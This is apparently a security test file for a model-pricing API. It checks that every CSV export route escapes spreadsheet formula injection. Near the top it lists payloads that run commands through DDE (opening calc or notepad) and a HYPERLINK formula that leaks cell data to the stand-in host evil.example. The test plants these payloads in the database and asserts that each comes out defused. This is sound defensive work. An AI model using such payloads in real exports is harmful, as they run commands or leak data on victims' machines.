/**
 * CSV formula injection (issue #14, class 6). Values a source or an admin could put in the catalog
 * are planted in every text column a CSV export writes; every CSV route the app documents is then
 * asked for CSV, and no cell may start like a formula unless it is wholly a number. Values that
 * start like a number (`-2+3+cmd|...`, `-1+HYPERLINK(...)`) were exported as they were.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { DATABASE_CONNECTION, type DatabaseConnection } from '../../src/database/database-connection.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/** Payloads: each starts the way a spreadsheet (Excel, LibreOffice, Sheets) reads as a formula. */
const P = {
  dde: "-2+3+cmd|' /C calc'!A0",
  hyperlink: '-1+HYPERLINK("http://evil.example/?leak="&A1,"open me")',
  equals: '=1+1',
  plus: "+1+cmd|' /C notepad'!A0",
  at: '@SUM(1+1)*cmd|x!A0',
  tab: '\t=1+1',
  cr: '\r=2+2',
  space: ' =3+3',
  minusMinus: '-1-1',
  fullWidth: '\uFF1D4+4',
  minusWord: '-cmd',
} as const;

const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?([eE][-+]?\d+)?$/;

/** RFC 4180 records, header included. */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  expect(field, 'the CSV ends with CRLF').toBe('');
  return records;
}

const EVIL_MODEL = P.dde;

/**
 * Every CSV route, with a query that includes the planted rows, and the payloads it must then
 * carry (prefixed with '). The list is checked against the OpenAPI document: a new CSV route
 * without a case here fails the test.
 */
const ROUTES: { route: string; url: string; planted: string[] }[] = [
  { route: 'GET /v1/models', url: '/v1/models?format=csv&limit=500&status=all', planted: [P.dde, P.hyperlink, P.at] },
  { route: 'GET /v1/providers', url: '/v1/providers?format=csv&limit=500', planted: [P.cr, P.space] },
  { route: 'GET /v1/licenses', url: '/v1/licenses?format=csv', planted: [P.equals, P.minusWord] },
  { route: 'GET /v1/offerings', url: '/v1/offerings?format=csv&provider=evil-provider', planted: [P.dde, P.minusMinus] },
  { route: 'GET /v1/compare', url: `/v1/compare?format=csv&models=${encodeURIComponent(EVIL_MODEL)},gpt-4o`, planted: [P.dde, P.hyperlink] },
  { route: 'GET /v1/benchmarks', url: '/v1/benchmarks?format=csv', planted: [P.tab, P.plus] },
  { route: 'GET /v1/benchmarks/{slug}', url: '/v1/benchmarks/mmlu?format=csv&limit=1000', planted: [P.dde] },
  { route: 'GET /v1/creators', url: '/v1/creators?format=csv', planted: [P.hyperlink, P.fullWidth] },
  { route: 'GET /v1/gpus', url: '/v1/gpus?format=csv', planted: [P.equals] },
  { route: 'GET /v1/quarantine', url: '/v1/quarantine?format=csv&status=all', planted: [P.at, P.dde] },
  { route: 'GET /v1/scrape-runs', url: '/v1/scrape-runs?format=csv&limit=500', planted: [P.plus] },
  {
    route: 'GET /v1/prices/at',
    url: '/v1/prices/at?format=csv&date=2026-06-01&provider=evil-provider',
    planted: [P.dde, P.minusMinus, P.fullWidth],
  },
  { route: 'GET /v1/prices/history', url: '/v1/prices/history?format=csv&provider=evil-provider', planted: [P.dde, P.minusMinus, P.fullWidth] },
  { route: 'GET /v1/changes', url: '/v1/changes?format=csv&provider=evil-provider', planted: [P.dde, P.minusMinus, P.fullWidth] },
];

let t: TestApp;
let pool: DatabaseConnection['pool'];

beforeAll(async () => {
  t = await startTestApp();
  // The app's own pool (the embedded database serves one connection).
  pool = t.app.get<DatabaseConnection>(DATABASE_CONNECTION).pool;
  // One row of each kind the CSVs export, its text columns holding the payloads. (A price's source
  // URL holds one too; it is not expected back verbatim, as URLs are redacted before they are shown.)
  await pool.query(`INSERT INTO creator (slug, name, country) VALUES ('evil-creator', $1, $2)`, [P.hyperlink, P.fullWidth]);
  await pool.query(`INSERT INTO license (id, name, category, commercial_use, url) VALUES ('evil-license', $1, 'open-weights', 'allowed', $2)`, [
    P.equals,
    P.minusWord,
  ]);
  await pool.query(
    `INSERT INTO model (slug, name, family, creator_slug, kind, license_id, status) VALUES ($1, $2, $3, 'evil-creator', 'open-weights', 'evil-license', 'active')`,
    [EVIL_MODEL, P.hyperlink, P.at],
  );
  await pool.query(`INSERT INTO benchmark (slug, name, unit) VALUES ('evil-bench', $1, $2)`, [P.tab, P.plus]);
  await pool.query(`INSERT INTO benchmark_result (model_slug, benchmark_slug, score, setting, source) VALUES ($1, 'mmlu', 12.5, '', 'seed')`, [EVIL_MODEL]);
  await pool.query(
    `INSERT INTO provider (slug, name, kinds, url, pricing_model) VALUES ('evil-provider', $1, '{inference-host}', 'https://evil.example', $2)`,
    [P.cr, P.space],
  );
  const {
    rows: [offering],
  } = await pool.query<{ id: number }>(
    `INSERT INTO offering (provider_slug, model_slug, provider_model_id, status, listed_at) VALUES ('evil-provider', $1, $2, 'listed', '2026-01-01') RETURNING id`,
    [EVIL_MODEL, P.minusMinus],
  );
  await pool.query(
    `INSERT INTO price_point (offering_id, component, unit, usd, valid_from, observed_at, source, source_url)
     VALUES ($1, 'input', '1M tokens', 1.5, '2026-01-01', '2026-01-01', 'seed', NULL),
            ($1, 'input', '1M tokens', 3, '2026-02-01', '2026-02-01', $2, $3),
            ($1, 'input', '1M tokens', 1, '2026-03-01', '2026-03-01', $2, $3)`,
    [offering!.id, P.fullWidth, P.hyperlink],
  );
  await pool.query(`INSERT INTO gpu_type (slug, name, vendor, memory_gb) VALUES ('evil-gpu', $1, 'x', 80)`, [P.equals]);
  await pool.query(
    `INSERT INTO gpu_price (gpu_slug, provider_slug, usd_per_hour, valid_from, observed_at, source) VALUES ('evil-gpu', 'evil-provider', 2, '2026-01-01', '2026-01-01', 'seed')`,
  );
  const {
    rows: [run],
  } = await pool.query<{ id: number }>(`INSERT INTO scrape_run (source, as_of, status, finished_at) VALUES ($1, now(), 'failed', now()) RETURNING id`, [
    P.plus,
  ]);
  await pool.query(
    `INSERT INTO quarantined_price (scrape_run_id, offering_id, component, unit, previous_usd, proposed_usd, valid_from, observed_at, source, reason)
     VALUES ($1, $2, 'input', '1M tokens', 3, 300, now(), now(), $3, $4)`,
    [run!.id, offering!.id, P.at, P.dde],
  );
});

afterAll(() => t?.close());

describe('CSV exports never start a cell like a formula', () => {
  it('the cases below cover every route the OpenAPI document lists with a text/csv answer', async () => {
    const spec = (await t.http.get('/openapi.json').expect(200)).body as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    const documented = Object.entries(spec.paths).flatMap(([path, operations]) =>
      Object.entries(operations)
        .filter(([, operation]) => operation.responses?.['200']?.content?.['text/csv'])
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    expect(documented.length).toBeGreaterThan(10);
    expect([...documented].sort()).toEqual(ROUTES.map((r) => r.route).sort());
  });

  it.each(ROUTES)("$route: planted payloads come out prefixed with ', and no cell reads as a formula", async ({ url, planted }) => {
    const res = await t.http.get(url).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const cells = csvRecords(res.text).flat();
    const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(formulas).toEqual([]);
    // The payloads did reach this export (so the check above had something to refuse), defused.
    for (const payload of planted) expect(cells).toContain(`'${payload}`);
  });

  it('Accept: text/csv gets the same escaping as ?format=csv', async () => {
    const res = await t.http.get('/v1/offerings?provider=evil-provider').set('accept', 'text/csv').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const row = csvRecords(res.text)[1]!;
    expect(row).toContain(`'${P.dde}`);
    expect(row).toContain(`'${P.minusMinus}`);
  });

  it('numbers, negative ones included, stay numbers; JSON answers are not escaped', async () => {
    const [header, ...rows] = csvRecords((await t.http.get('/v1/changes?format=csv&provider=evil-provider').expect(200)).text);
    const column = (name: string) => header!.indexOf(name);
    const fall = rows.find((r) => r[column('oldUsd')] === '3')!;
    expect(fall).toBeDefined();
    expect(fall[column('newUsd')]).toBe('1');
    expect(fall[column('changeUsd')]).toMatch(/^-2(\.0+)?$/);
    expect(fall[column('changePct')]).toMatch(/^-66\.6+\d*$/);
    const json = (await t.http.get('/v1/offerings?provider=evil-provider').expect(200)).body;
    expect(json.items[0].providerModelId).toBe(P.minusMinus);
  });
});
